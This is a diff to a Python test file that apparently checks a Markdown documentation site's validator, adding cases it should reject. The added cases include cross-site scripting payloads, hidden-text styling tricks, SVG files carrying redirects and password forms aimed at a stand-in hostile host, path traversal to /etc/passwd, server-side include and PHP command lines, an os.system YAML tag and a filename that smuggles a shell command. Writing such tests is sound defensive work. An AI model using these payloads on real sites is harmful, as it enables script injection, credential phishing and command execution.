@@ -31,6 +31,7 @@ RUN = "document.title=origin"
 EVIL = "https://evil.invalid/"
 CANARY = "canary.txt"
 SVG = '<svg xmlns="http://www.w3.org/2000/svg"'
+XHTML = 'xmlns:m="http://www.w3.org/1999/xhtml"'
 
 IN_A_TEXT = {
     "a script": (f"<script>{RUN}</script>", "L110"),
@@ -73,6 +74,44 @@ IN_A_TEXT = {
     "a handler on code": (f'```{{ .x onclick="{RUN}" }}\n文字\n```', "L112"),
     "settings of the theme": (f'<a id="__config">{{"base": "{EVIL}"}}</a>', "L112"),
     "settings of the theme, by a list": ("## 二、职责 {: #__config }", "L112"),
+    "words in white": ('<font color="white">文字</font>', "L113"),
+    "words in no colour": ('<table bgcolor="#000"><tr><td>文字</td></tr></table>', "L113"),
+    "words that a style spells in code": ('<p style="c\\6flor:#fff">文字</p>', "L113"),
+    "words that a style makes small": ('<p style="font-size:1px">文字</p>', "L113"),
+    "words that a style pushes away": ('<p style="margin-left:-9999px">文字</p>', "L113"),
+    "words that a style strikes out": ('<p style="text-decoration: line-through">文字</p>', "L113"),
+    "words that the theme hides": ("文字。\n{: .md-toggle }", "L113"),
+    "words that the theme hides, in a tag": ('<p class="note md-toggle">文字</p>', "L113"),
+    "words that the theme hides, at a list": ('文字。\n{: title="x".md-toggle }', "L113"),
+    "words that the theme hides, by name": ("**文字**{ class=md-toggle }", "L113"),
+    "words that the theme hides, in a box": ("!!! note md-toggle\n    文字", "L113"),
+    "words that wait to be asked for": ("<p popover>文字</p>", "L113"),
+    "words that wait, by a list": ("文字。\n{: popover }", "L113"),
+    "words in a closed window": ("<dialog>文字</dialog>", "L113"),
+    "words for other browsers": ("<ruby>文<rp>文字</rp></ruby>", "L113"),
+    "words from right to left": ('<bdo dir="rtl">文字</bdo>', "L113"),
+    "a figure that nobody stated": ('<data class="fact" value="1">文字</data>', "L113"),
+    "a part of the theme's": ('<p data-md-component="announce">文字</p>', "L113"),
+    "a name of the theme's": ('<p id="gk-card">文字</p>', "L113"),
+    "a drawing that runs": (f'<svg><a><animate attributeName="href" values="x;javascript:{RUN}"/></a></svg>', "L113"),
+    "a tag with a tag in its quotes": (f'<img title="<" src="x.png" alt="" onerror="{RUN}">', "L112"),
+    "a tag in the quotes of none": (f"文<a title=\"<img src='x.png' alt='' onerror='{RUN}'>\">字</a>", "L110"),
+    "a tag that nobody knows": (f"<b\\ onclick={RUN}>文字</b>", "L112"),
+    "a tag with a colon": (f"<a:b/onclick={RUN}>文字</a:b>", "L112"),
+    "an address that is a tag": ("<javascript:document.title=origin>", "L112"),
+    "code behind a backslash": (f"\\`<img src='x.png' alt='' onerror={RUN}>\\`", "L110"),
+    "code in HTML": (f"<div>`<img src='x.png' alt='' onerror={RUN}>`</div>", "L110"),
+    "code in HTML of several lines": (f"<div>\n`<img src='x.png' alt='' onerror={RUN}>`\n</div>", "L110"),
+    "code behind half a code": (f"文 ` 字\n`<img src='x.png' alt='' onerror={RUN}>` ` 字", "L110"),
+    "code in cells": (f"| 甲 | 乙 |\n| --- | --- |\n| `文|<img src='x.png' alt='' onerror={RUN}>|字` |", "L110"),
+    "fences that do not begin their lines": (f"文\n\n   ```\n<div onclick={RUN}>\n</div>\n   ```", "L110"),
+    "fences of two kinds": (f"```\n<div onclick={RUN}>\n~~~\n</div>\n````", "L110"),
+    "fences with a name of words": (f"~~~ a b c\n<div onclick={RUN}></div>\n~~~", "L110"),
+    "fences, one of which some readers skip": (
+        f'```py hl_lines="1"\n文\n```\n\n<div onclick={RUN}></div>\n\n```\n',
+        "L110",
+    ),
+    "a link that runs, behind a backslash": (f"\\`[文字](javascript:{RUN})\\`", "L110"),
     "a comment that ends early": (f"<!--><script>{RUN}</script>-->", "L110"),
     "a section that is no text": (f"<![CDATA[<script>{RUN}</script>]]>", "L110"),
     "a command of the server": ('<!--#exec cmd="touch canary.txt" -->', "V108"),
@@ -104,6 +143,10 @@ IN_A_FILE: dict[str, tuple[Mapping[str, str], str]] = {
     "Python among the kinds": ({"data/kinds/own.yml": "a: !!python/name:os.system\n"}, "S107"),
     "a name that is HTML": ({BUDGET: FIGURES + '"<script>": 3件\n'}, "D105"),
     "a chapter elsewhere": ({REPORT: ABOUT.replace("overview.md", "../../../../etc/passwd")}, "D103"),
+    "a chapter's title": (
+        {REPORT: ABOUT.replace("title: 一、基本情况", f"title: '<img src=x onerror={RUN}>'")},
+        "D103",
+    ),
     "a repository that runs": ({DEPARTMENT: f'name: 某馆\nrepository: {{url: "javascript:{RUN}"}}\n'}, "D103"),
     "a licence that runs": ({DEPARTMENT: f'name: 某馆\nlicence: {{name: x, url: "javascript:{RUN}"}}\n'}, "D103"),
     "a site that runs": ({DEPARTMENT: f'name: 某馆\nsite: {{url: "javascript:{RUN}"}}\n'}, "D103"),
@@ -128,6 +171,29 @@ IN_A_FILE: dict[str, tuple[Mapping[str, str], str]] = {
         "L111",
     ),
     "SVG: a handler": ({"docs/2021/x.svg": f'{SVG} onload="{RUN}"/>'}, "L111"),
+    "SVG: a redirection": (
+        {"docs/2021/x.svg": f'{SVG}><m:meta {XHTML} http-equiv="refresh" content="0;url={EVIL}"/></svg>'},
+        "L111",
+    ),
+    "SVG: a form": (
+        {"docs/2021/x.svg": f'{SVG}><m:form {XHTML} action="{EVIL}"><m:input name="password"/></m:form></svg>'},
+        "L111",
+    ),
+    "SVG: a web page, as XML": ({"docs/2021/x.svg": f'<m:html {XHTML}><m:base href="{EVIL}"/></m:html>'}, "L111"),
+    "SVG: what nobody knows": ({"docs/2021/x.svg": f"{SVG}><portal/></svg>"}, "L111"),
+    "SVG: a link of another host": ({"docs/2021/x.svg": f'{SVG} xml:base="{EVIL}"><a href="#x"/></svg>'}, "L111"),
+    "SVG: a style that is spelt in code": (
+        {"docs/2021/x.svg": f"{SVG}><style>@\\69mport '{EVIL}';</style></svg>"},
+        "L111",
+    ),
+    "SVG: a style in pieces": (
+        {"docs/2021/x.svg": f"{SVG}><style>@im<a/>port '{EVIL}';</style></svg>"},
+        "L111",
+    ),
+    "SVG: a picture of another host in a style": (
+        {"docs/2021/x.svg": f"{SVG}><style>a {{ fill: image-set('//evil.invalid' 1x) }}</style></svg>"},
+        "L111",
+    ),
     "SVG: a page in it": ({"docs/2021/x.svg": f"{SVG}><foreignObject><p/></foreignObject></svg>"}, "L111"),
     "SVG: a link that runs": ({"docs/2021/x.svg": f'{SVG}><a href="javascript:{RUN}"/></svg>'}, "L111"),
     "SVG: a link that will run": (
@@ -187,7 +253,7 @@ INERT: dict[str, str] = {
     PAGE: TEXT
     + "\n## 二、&lt;img src=x onerror=RUN&gt;\n"
     + "\n```\n<script>document.title=origin</script>\n```\n\n`<script>document.title=origin</script>`\n\n"
-    + "<javascript:document.title=origin>\n\n<?php system('touch canary.txt'); ?>\n\n{!/etc/passwd!}\n\n"
+    + "<?php system('touch canary.txt'); ?>\n\n{!/etc/passwd!}\n\n"
     + "&lt;script&gt;document.title=origin&lt;/script&gt;\n\n[文字](../../../../etc/passwd)\n\n"
     + "[附件](x.png) [附件](x.pdf) [附件](%24%28touch%20canary.txt%29.pdf) [附件](-rf.pdf) [图](x.svg)\n\n"
     + '{{ fact("budget.words") }}\n\n{{ table("lines") }}\n',
